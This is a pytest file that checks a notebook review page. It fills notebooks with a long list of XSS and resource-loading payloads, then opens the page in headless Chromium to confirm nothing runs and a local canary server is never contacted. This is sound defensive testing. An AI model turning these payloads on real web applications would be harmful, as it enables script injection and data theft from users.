"""Proof in a real browser: whatever a notebook's content carries, the review page runs nothing and fetches nothing."""

from __future__ import annotations

import base64
import json
import re
import shutil
import subprocess
import threading
from collections.abc import Iterator
from html import unescape
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from studio.core.report import Case, Report
from studio.notebooks.document import NotebookDocument, parse_notebook
from studio.notebooks.fingerprint import Fingerprint, Part
from studio.notebooks.review import evidence
from studio.notebooks.review.anchors import anchor
from studio.notebooks.review.diff import diff_notebooks
from studio.notebooks.review.facts import Comment, ContractTexts, PacketFacts
from studio.notebooks.review.packet import build_packet

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="needs Chromium on this machine to open the page in")


class Canary:
    """A server on the loopback interface that nobody has a reason to talk to."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self.connections = 0
        canary = self

        class Answer(BaseHTTPRequestHandler):
            def setup(self) -> None:
                canary.connections += 1
                super().setup()

            def do_GET(self) -> None:
                canary.asked.append(self.path)
                self.send_response(200)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_POST = do_GET
            do_HEAD = do_GET

            def log_message(self, *arguments: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Answer)
        self.server.daemon_threads = True
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()
        self.url = f"http://127.0.0.1:{self.server.server_port}"

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join()


@pytest.fixture
def canary() -> Iterator[Canary]:
    server = Canary()
    yield server
    server.close()


def opened(page: str, folder: Path) -> str:
    """What Chromium makes of the page: its document, after every load, timer and animation of four seconds."""
    file = folder / "page.html"
    file.write_text(page, encoding="utf-8")
    done = subprocess.run(
        [
            str(CHROMIUM),
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--no-first-run",
            "--no-proxy-server",
            "--disable-background-networking",
            f"--user-data-dir={folder / 'profile'}",
            "--window-size=1000,20000",
            "--virtual-time-budget=4000",
            "--dump-dom",
            file.as_uri(),
        ],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    return done.stdout


def title(dom: str) -> str:
    found = re.search(r"<title>(.*?)</title>", dom, re.DOTALL)
    assert found
    return unescape(found.group(1))


def attacks(url: str) -> list[str]:
    """HTML that runs or fetches something wherever it is taken for HTML."""
    run = f"document.title='RAN';top.document.title='RAN';new Image().src='{url}/ran';fetch('{url}/ran')"
    return [
        f"<script>{run}</script>",
        f"<script src='{url}/script.js'></script>",
        f'<img src=x onerror="{run}">',
        f"<img src='{url}/image.png' srcset='{url}/set.png 2x'>",
        f'<svg onload="{run}"><script>{run}</script><image href="{url}/svg.png"/></svg>',
        f'<a href="javascript:{run}" autofocus onfocus="{run}">click</a>',
        f"<meta http-equiv=refresh content='0;url={url}/refresh'>",
        f"<meta http-equiv=refresh content='0;url=javascript:{run}'>",
        f"<iframe src='{url}/frame'></iframe>",
        f"<iframe srcdoc='<script>{run.replace(chr(39), '&quot;')}</script>'></iframe>",
        f"<iframe src='javascript:{run.replace(chr(39), '&quot;')}'></iframe>",
        f"<object data='{url}/object'></object><embed src='{url}/embed'>",
        f"<form action='{url}/form'><input autofocus onfocus=\"{run}\"><button formaction='{url}/b'>go</button></form>",
        f"<style>@import url('{url}/import.css'); body{{background:url({url}/css.png)}}</style>",
        f"<div style=\"background:url('{url}/style.png')\">x</div>",
        f"<link rel=stylesheet href='{url}/sheet.css'><link rel=preload as=image href='{url}/preload'>",
        f"<link rel=preconnect href='{url}'><link rel=dns-prefetch href='{url}'><link rel=prefetch href='{url}/pre'>",
        f"<link rel=icon href='{url}/icon'><base href='{url}/'>",
        f"<video src='{url}/v' poster='{url}/poster' autoplay></video><audio src='{url}/a' autoplay></audio>",
        f'<details open ontoggle="{run}"><summary>s</summary></details>',
        f'<pre class="mermaid">graph TD; A["<img src=x onerror={run}>"]</pre>',
        f"<script type='text/x-mathjax-config'>{run}</script>$$\\require{{html}}\\href{{javascript:{run}}}{{x}}$$",
        f"</script></style></title></textarea></pre></iframe>\"'><script>{run}</script>",
        f'<noscript><p title="</noscript><img src=x onerror={run}>"></noscript>',
        f'<math><mtext><table><mglyph><style><img src=x onerror="{run}"></style></mglyph></table></mtext></math>',
        f'<template><script>{run}</script></template><marquee onstart="{run}">x</marquee>',
        f"<table background='{url}/table.png'><tr><td background='{url}/cell.png'>x</td></tr></table>",
        f'<body onload="{run}"><p>x',
    ]


def svg(url: str) -> str:
    run = f"top.document.title='RAN';fetch('{url}/svg')"
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" width="9" height="9" '
        f'onload="{run}"><script>{run}</script><image x:href="{url}/i.png" width="9" height="9"/>'
        f'<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{url}/f"/>'
        "</foreignObject>"
        f"<style>@import url({url}/svg.css)</style></svg>"
    )


def hostile(url: str, *, changed: bool) -> NotebookDocument:
    """A notebook in which every field is an attack."""
    cells: list[dict[str, Any]] = []
    for number, attack in enumerate(attacks(url)):
        data = {
            "text/html": attack,
            "text/plain": attack,
            "text/markdown": attack,
            "text/latex": attack,
            "application/javascript": attack,
        }
        text = {"text/plain": attack}
        outputs: list[dict[str, Any]] = [
            {"output_type": "display_data", "metadata": {}, "data": data},
            {"output_type": "display_data", "metadata": {}, "data": text},
            {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": svg(url)}},
            {"output_type": "display_data", "metadata": {}, "data": {"image/png": f'"><img src={url}/png onerror=x>'}},
            {"output_type": "display_data", "metadata": {}, "data": {"image/png": png_of(attack)}},
            {"output_type": "display_data", "metadata": {}, "data": {f"text/{attack}": attack}},
            {"output_type": "stream", "name": "stdout", "text": f"\x1b[31m{attack}\x1b[0m"},
            {"output_type": "error", "ename": attack, "evalue": attack, "traceback": [attack]},
        ]
        kind = "markdown" if number % 5 == 4 else "code"
        cell: dict[str, Any] = {
            "id": f"cell-{number}",
            "cell_type": kind,
            "source": f"{attack}\nx = {number + changed}\n\u202e\x07",
            "metadata": {"tags": [attack] if number % 2 else [], attack: int(changed)},
        }
        cells.append(cell | ({"outputs": outputs, "execution_count": None} if kind == "code" else {}))
    metadata = {"kernelspec": {"name": attacks(url)[0 if changed else 1]}, "title": attacks(url)[0]}
    content = {"cells": cells, "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}
    return parse_notebook(json.dumps(content), f"notebooks/{attacks(url)[0]}.ipynb")


def png_of(attack: str) -> str:
    return base64.b64encode(b"\x89PNG\r\n\x1a\n" + attack.encode()).decode()


def hostile_facts(url: str) -> PacketFacts:
    old, new = hostile(url, changed=False), hostile(url, changed=True)
    told = "\n".join(attacks(url))
    image = attacks(url)[2]
    cases = [
        Case("code", told, told, status, 0.1, told, told, told, 1, 1, {told: told})  # type: ignore[arg-type]
        for status in ("passed", "failed", "error", "skipped")
    ]
    yaml = f"version: 1\ncolumns:\n  a: {{dtype: {json.dumps(told)}}}\n"
    return PacketFacts(
        submission=image,
        subject=told,
        title="A title <script>document.title='RAN'</script>",
        author=told,
        time=image,
        message=told,
        diff=diff_notebooks(old, new, outputs=True),
        base=told,
        old_fingerprint=Fingerprint(image, (Part("module", told, "1"),)),
        new_fingerprint=Fingerprint(image, (Part("module", told, "2"),)),
        contracts=[ContractTexts(told, None, yaml), ContractTexts(told, yaml, told)],
        old_metrics={told: 1.0},
        new_metrics={told: float("nan"), image: 2.0},
        report=Report.of(cases),
        findings=[told, {"rule": told, "message": told, "fix": told, "cell": image}],
        comments=[Comment(told, image, told), Comment(told, image, told, anchor(new, new.cells[0]))],
        policy=told,
        links={told: told, "a": "javascript:document.title='RAN'", "b": "data:text/html,<script>1</script>", "c": url},
    )


def test_the_canary_hears_a_page_without_walls(canary: Canary, tmp_path: Path) -> None:
    run = f"document.title='RAN';new Image().src='{canary.url}/ran'"
    dom = opened(f"<title>still</title><img src='{canary.url}/image'><script>{run}</script>", tmp_path)
    assert title(dom) == "RAN"
    assert {"/image", "/ran"} <= set(canary.asked)


def test_nothing_runs_and_nothing_is_fetched(canary: Canary, tmp_path: Path) -> None:
    page = build_packet(hostile_facts(canary.url)).to_html()
    dom = opened(page, tmp_path)
    assert title(dom) == "Review of A title <script>document.title='RAN'</script>"
    assert (canary.asked, canary.connections) == ([], 0)
    assert dom.count("<iframe sandbox=") > 3, "outputs in HTML were to be shown in frames"
    assert "data:image/svg+xml;base64," in dom


def test_the_page_of_a_difference_is_as_inert(canary: Canary, tmp_path: Path) -> None:
    dom = opened(hostile_facts(canary.url).diff.to_html(), tmp_path)
    assert title(dom).startswith("Difference of notebooks/<script>")
    assert (canary.asked, canary.connections) == ([], 0)


def test_frame_and_policy_hold_without_the_reduction(
    canary: Canary, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(evidence, "reduced", lambda html: html)
    page = build_packet(hostile_facts(canary.url)).to_html()
    assert page.count("srcdoc=") > 15
    dom = opened(page, tmp_path)
    assert title(dom).startswith("Review of A title")
    assert canary.asked == []


def test_outputs_in_html_are_shown_in_their_frames(tmp_path: Path) -> None:
    table = "<style>td{color:red}</style><table><tr><td>forty-two</td></tr></table>"
    content = {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {"kernelspec": {"name": "python3"}},
        "cells": [
            {
                "id": "a1b2c3d4",
                "cell_type": "code",
                "metadata": {},
                "source": "frame",
                "execution_count": 1,
                "outputs": [{"output_type": "display_data", "metadata": {}, "data": {"text/html": table}}],
            }
        ],
    }
    document = parse_notebook(json.dumps(content), "notebooks/a.ipynb")
    facts = PacketFacts("1", "notebooks/a.ipynb", "A", "Mara", "now", "", diff_notebooks(None, document))
    picture = tmp_path / "page.png"
    page = tmp_path / "page.html"
    page.write_text(build_packet(facts).to_html(), encoding="utf-8")
    done = subprocess.run(
        [
            str(CHROMIUM),
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            f"--user-data-dir={tmp_path / 'profile'}",
            f"--print-to-pdf={picture.with_suffix('.pdf')}",
            "--enable-logging=stderr",
            page.as_uri(),
        ],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    # A frame that the policy forbids, or a style sheet of ours that it does not know, is said on the console.
    assert "Content Security Policy" not in done.stderr
    assert picture.with_suffix(".pdf").stat().st_size > 5_000
